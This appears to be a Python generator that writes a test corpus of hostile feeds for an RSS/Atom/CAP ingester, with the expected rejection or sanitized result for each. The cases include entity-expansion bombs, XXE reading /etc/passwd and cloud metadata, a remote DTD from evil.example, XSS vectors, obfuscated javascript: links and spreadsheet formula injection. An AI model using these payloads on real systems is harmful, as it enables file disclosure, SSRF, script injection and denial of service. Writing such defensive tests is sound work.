"""Writes the hostile-feed corpus (python -m tests.corpus.hostile.make_corpus). Each file's expected
outcome is in expected.yaml beside it: `error: <words of the health message>` or `posts: N`."""

from __future__ import annotations

from pathlib import Path

import yaml

HERE = Path(__file__).resolve().parent


def rss(items: str, head: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return f'{head}<rss version="2.0"><channel><title>t</title>{items}</channel></rss>'.encode()


def item(title: str = "t", description: str = "d", guid: str | None = "g1", link: str = "https://ok.example/1",
         date: str | None = "Sun, 22 Nov 2026 07:00:00 +0000") -> str:  # fmt: skip
    parts = [f"<title>{title}</title>", f"<description>{description}</description>", f"<link>{link}</link>"]
    if guid is not None:
        parts.append(f"<guid>{guid}</guid>")
    if date is not None:
        parts.append(f"<pubDate>{date}</pubDate>")
    return "<item>" + "".join(parts) + "</item>"


def cap(body: str) -> bytes:
    return f'<?xml version="1.0"?><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">{body}</alert>'.encode()


LOL = "".join(
    f'<!ENTITY lol{i} "{"&lol" + str(i - 1) + ";" * 1 if i else "lol"}{("&lol" + str(i - 1) + ";") * 9 if i else ""}">'
    for i in range(10)
)

CASES: dict[str, tuple[bytes, dict]] = {
    "billion_laughs.xml": (
        f'<?xml version="1.0"?><!DOCTYPE rss [{LOL}]>'.encode() + rss(item("&lol9;"), head=""),
        {"error": "entities"},
    ),
    "quadratic_blowup.xml": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + b"A" * 50_000 + b'">]>' + rss(item("&a;" * 200), head=""),
        {"error": "entities"},
    ),
    "xxe_file.xml": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rss(item("&x;"), head=""),
        {"error": "entities"},
    ),
    "xxe_http.xml": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "http://169.254.169.254/latest">]>'
        + rss(item("&x;"), head=""),
        {"error": "entities"},
    ),
    "parameter_entity.xml": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
        + rss(item(), head=""),
        {"error": "entities"},
    ),
    "xinclude.xml": (
        rss(item('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')),
        {"posts": 1, "absent": ["root:"]},
    ),
    "utf16_bom.xml": (
        (
            '<?xml version="1.0" encoding="utf-16"?><rss version="2.0"><channel><title>t</title>'
            + item("Brand i Östmark")
            + "</channel></rss>"
        ).encode("utf-16"),
        {"posts": 1, "title": "Brand i Östmark"},
    ),
    "latin1_declared_utf8.xml": (
        rss(item("Br\xe4nd")).replace("Bränd".encode(), "Bränd".encode("latin-1")),
        {"posts": 1},
    ),
    "nul_bytes.xml": (rss(item("nul\x00byte", "a\x00b")), {"any": True}),
    "deep_nesting.xml": (rss(item(description="<div>" * 5000 + "deep" + "</div>" * 5000)), {"any": True}),
    "huge_title.xml": (rss(item("T" * 400_000)), {"posts": 1, "max_title": 1000}),
    "many_items.xml": (rss("".join(item(f"t{i}", guid=f"g{i}") for i in range(3000))), {"posts": 1000}),
    "truncated.xml": (rss(item("cut"))[:-40], {"any": True}),
    "script_in_description.xml": (
        rss(item(description="&lt;script&gt;alert(1)&lt;/script&gt;ok")),
        {"posts": 1, "absent": ["<script", "alert(1)"]},
    ),
    "script_in_cdata.xml": (
        rss(item(description="<![CDATA[<script>alert(1)</script>ok]]>")),
        {"posts": 1, "absent": ["<script", "alert(1)"]},
    ),
    "event_handlers.xml": (
        rss(item(description='<![CDATA[<img src=x onerror="alert(1)"><body onload=alert(2)>x]]>')),
        {"posts": 1, "absent": ["onerror", "onload"]},
    ),
    "svg_onload.xml": (
        rss(item(description="<![CDATA[<svg onload=alert(1)><circle/></svg>ok]]>")),
        {"posts": 1, "absent": ["onload", "<svg"]},
    ),
    "javascript_link.xml": (rss(item(link="javascript:alert(1)")), {"posts": 1, "link": None}),
    "javascript_link_case.xml": (rss(item(link="JaVaScRiPt:alert(1)")), {"posts": 1, "link": None}),
    "javascript_link_entities.xml": (rss(item(link="&#106;avascript:alert(1)")), {"posts": 1, "link": None}),
    "javascript_link_tab.xml": (rss(item(link="java&#9;script:alert(1)")), {"posts": 1, "link": None}),
    "javascript_link_spaces.xml": (rss(item(link="  javascript:alert(1)")), {"posts": 1, "link": None}),
    "data_link.xml": (
        rss(item(link="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
        {"posts": 1, "link": None},
    ),
    "vbscript_link.xml": (rss(item(link="vbscript:msgbox(1)")), {"posts": 1, "link": None}),
    "protocol_relative_link.xml": (rss(item(link="//evil.example/x")), {"posts": 1, "link": None}),
    "form_and_iframe.xml": (
        rss(
            item(
                description='<![CDATA[<form action="https://evil.example"><input name=p></form><iframe src="https://evil.example"></iframe>text]]>'
            )
        ),
        {"posts": 1, "absent": ["<form", "<iframe", "evil.example"]},
    ),
    "tracking_image.xml": (
        rss(item(description='<![CDATA[<img src="https://track.example/pixel.gif?u=1" width=1 height=1>text]]>')),
        {"posts": 1, "absent": ["track.example"]},
    ),
    "base_tag.xml": (
        rss(item(description='<![CDATA[<base href="javascript:alert(1)//"><a href="x">a</a>]]>')),
        {"posts": 1, "absent": ["javascript", "<base"]},
    ),
    "markdown_javascript.xml": (
        rss(item(description="[click](javascript:alert(1))")),
        {"posts": 1, "render_safe": True},
    ),
    "bidi_override_title.xml": (rss(item("abc\u202edcba\u2066x\u2069")), {"posts": 1, "title": "abcdcbax"}),
    "zero_width_title.xml": (rss(item("B\u200br\u200ca\u200dn\ufeffd")), {"posts": 1, "title": "Brand"}),
    "formula_triggers.xml": (
        rss(item('=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0")),
        {"posts": 1, "csv_safe": True},
    ),
    "missing_guid.xml": (rss(item(guid=None, link="")), {"posts": 1, "guid_prefix": "sha256:"}),
    "duplicated_guid.xml": (
        rss(item("first", guid="dup") + item("second", guid="dup")),
        {"posts": 1, "title": "second"},
    ),
    "reused_guid_new_content.xml": (rss(item("v2", "new body", guid="g1")), {"posts": 1}),
    "date_1970.xml": (rss(item(date="Thu, 01 Jan 1970 00:00:00 +0000")), {"posts": 1, "date_source": "published"}),
    "date_2100.xml": (rss(item(date="Fri, 01 Jan 2100 00:00:00 +0000")), {"posts": 1, "date_source": "fetched"}),
    "date_unparseable.xml": (rss(item(date="the day after tomorrow")), {"posts": 1, "date_source": "fetched"}),
    "date_plus14.xml": (rss(item(date="Sun, 22 Nov 2026 20:00:00 +1400")), {"posts": 1, "date_source": "published"}),
    "date_minus12.xml": (rss(item(date="Sat, 21 Nov 2026 20:00:00 -1200")), {"posts": 1, "date_source": "published"}),
    "cap_update_unknown_reference.xml": (
        cap(
            "<identifier>U1</identifier><sender>s</sender><sent>2026-11-22T07:00:00+00:00</sent><status>Actual</status><msgType>Update</msgType><scope>Public</scope><references>s,NOPE,2020-01-01T00:00:00+00:00</references><info><language>de</language><headline>h</headline></info>"
        ),
        {"posts": 1},
    ),
    "cap_cancel_unknown.xml": (
        cap(
            "<identifier>C1</identifier><sender>s</sender><sent>2026-11-22T07:00:00+00:00</sent><status>Actual</status><msgType>Cancel</msgType><scope>Public</scope><references>s,NOPE,2020-01-01T00:00:00+00:00</references>"
        ),
        {"posts": 1},
    ),
    "cap_expires_before_sent.xml": (
        cap(
            "<identifier>E1</identifier><sender>s</sender><sent>2026-11-22T07:00:00+00:00</sent><status>Actual</status><msgType>Alert</msgType><scope>Public</scope><info><language>en</language><headline>h</headline><expires>2026-11-21T07:00:00+00:00</expires></info>"
        ),
        {"posts": 1},
    ),
    "cap_without_identifier.xml": (
        cap("<sender>s</sender><sent>2026-11-22T07:00:00+00:00</sent>"),
        {"error": "identifier"},
    ),
    "empty.xml": (b"", {"error": "empty"}),
    "whitespace.xml": (b"   \n\t ", {"error": "empty"}),
    "html_page.xml": (
        b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>",
        {"error": "HTML page"},
    ),
    "json_body.xml": (b'{"items": [{"title": "not a feed"}]}', {"error": "not an RSS"}),
    "binary_garbage.xml": (bytes(range(256)) * 40, {"any": True}),
    "atom_xml_base_javascript.xml": (
        b'<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert(1)//"><title>t</title><entry><id>e1</id><title>x</title><link href="a"/><content type="html">&lt;a href="b"&gt;c&lt;/a&gt;</content></entry></feed>',
        {"posts": 1, "link": None},
    ),
    # Issue 12, item 2: HTML that made the regular expressions of text.py backtrack for minutes.
    "bang_markup.xml": (
        rss(item("t", "<![CDATA[Före" + "<!x" * 133_334 + "]]>")),
        {"posts": 1, "absent": ["<!x"]},
    ),
    "attribute_with_gt.xml": (
        rss(
            item(
                '<![CDATA[<a title="a>b">Rubrik</a>]]>',
                "<![CDATA[<p title=\"x>y\" data-z='</p><script>alert(1)</script>'>Text</p>]]>",
            )
        ),
        {"posts": 1, "title": "Rubrik", "absent": ['b">', 'y"', "alert"]},
    ),
    "unclosed_markup_mix.xml": (
        rss(item("t", "<![CDATA[" + '<p class="n" title="a>b">Brand</p><!x><title x<style x' * 6_000 + "]]>")),
        {"posts": 1, "absent": ["<!x", 'b">', "title x", "style x"]},
    ),
}


# Inputs the fuzzer (tests/fuzz/fuzz_ingest.py) found to crash something once; kept so they never do again.
FOUND_BY_FUZZING = {
    "fuzz_encoding_declaration.xml": {"error": "could not be read"},
    "fuzz_entry_without_body.xml": {"any": True},
    "fuzz_mixed_case_scheme.xml": {"any": True},
    "fuzz_unknown_encoding.xml": {"any": True},
}


def write() -> None:
    expected = dict(FOUND_BY_FUZZING)
    for name, (data, outcome) in CASES.items():
        (HERE / name).write_bytes(data)
        expected[name] = outcome
    (HERE / "expected.yaml").write_text(
        "# Expected outcome of every hostile file (written by make_corpus.py).\n"
        + yaml.safe_dump(expected, sort_keys=True),
        encoding="utf-8",
    )


if __name__ == "__main__":
    write()
